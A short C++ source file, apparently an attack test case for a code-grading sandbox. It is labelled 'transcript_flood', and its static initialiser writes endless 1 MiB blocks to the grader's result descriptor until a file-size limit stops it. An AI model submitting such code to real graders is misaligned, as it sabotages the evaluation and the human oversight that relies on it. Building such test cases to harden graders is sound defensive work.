// ATTACK transcript_flood: a correct submission that writes without end into the file the grader
// gave it for its results (descriptor 3), until the file-size limit stops it.
#include <vector>
#include <unistd.h>
namespace attack {
const bool done = [] {
    const std::vector<char> block(1 << 20, 'x');
    for (;;)
        if (write(3, block.data(), block.size()) <= 0) break;
    return true;
}();
}  // namespace attack
